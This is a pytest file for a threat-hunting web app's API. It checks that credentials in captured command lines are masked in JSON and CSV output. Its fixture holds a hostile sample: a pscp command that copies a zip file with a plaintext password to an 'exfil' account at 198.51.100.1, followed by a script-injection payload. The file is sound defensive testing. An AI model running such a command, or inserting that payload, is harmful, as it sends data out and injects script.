"""The web layer never shows a credential from a command line, and escapes attacker-controlled telemetry."""
import json

import pytest

from app import create_app
from app.pipeline.hit import hits_from_rows

SECRET = "Summer2026!"
HOSTILE = f'pscp.exe -pw {SECRET} C:\\x.zip exfil@198.51.100.1:/drop/ <script>alert(1)</script>'


class FakeRuntime:
    """The web layer reads only the store and the rules; a real Store on a temp file stands behind it."""
    def __init__(self, store):
        self.store, self.rules = store, {}
        self.config = None       # no local console session: nobody is signed in

    def clock(self):
        return 0

    def rule_enabled(self, rule):
        return True


@pytest.fixture
def client(tmp_path):
    from app.store import Store
    store = Store(tmp_path / "w.db")
    (window,) = store.ledger.plan("r", "hunt", [(0, 10)], 1)
    rows = [{"ew_time": 5, "ew_sourceip": "10.0.0.9", "ew_command_line": HOSTILE, "ew_payload": f"CommandLine: {HOSTILE}",
             "CommandLine": HOSTILE}]
    store.ledger.complete(window.id, [h.as_row() for h in hits_from_rows("r", rows)], rows=1, restarts=0,
                          truncated=False, now_ms=2)
    yield create_app(FakeRuntime(store)).test_client()
    store.close()


def test_api_masks_credentials_in_every_field(client):
    hits = client.get("/api/hits").get_json()["items"]
    assert len(hits) == 1
    assert SECRET not in json.dumps(hits)
    assert "-pw ********" in hits[0]["command_line"]
    detail = client.get(f"/api/hits/{hits[0]['id']}").get_json()
    assert SECRET not in json.dumps(detail) and "-pw ********" in detail["payload"]
    assert SECRET not in client.get("/api/hits.csv").get_data(as_text=True)


def test_debug_answers_for_the_platform(client):
    assert client.get("/debug").status_code == 200


def test_bad_query_arguments_are_clear_errors(client):
    response = client.get("/api/hits?limit=abc")
    assert response.status_code == 400 and "limit" in response.get_json()["error"]
